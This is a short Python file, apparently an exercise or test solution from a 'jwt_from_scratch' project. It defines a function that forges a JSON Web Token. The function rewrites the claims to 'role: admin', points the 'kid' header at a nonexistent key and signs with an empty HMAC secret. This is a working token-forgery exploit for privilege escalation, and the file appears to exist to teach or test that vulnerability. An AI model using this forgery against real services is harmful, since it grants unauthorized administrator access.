"""With the given helpers."""

import hashlib
import hmac

from jwt_from_scratch.encoding import b64u_decode, b64u_encode, json_dumps, json_loads_strict


def forge_empty_key(token: str) -> str:
    claims = json_loads_strict(b64u_decode(token.split(".")[1])) | {"role": "admin"}
    header = {"alg": "HS256", "kid": "no such key"}
    signing_input = b64u_encode(json_dumps(header)) + "." + b64u_encode(json_dumps(claims))
    mac = hmac.new(b"", signing_input.encode(), hashlib.sha256).digest()
    return signing_input + "." + b64u_encode(mac)
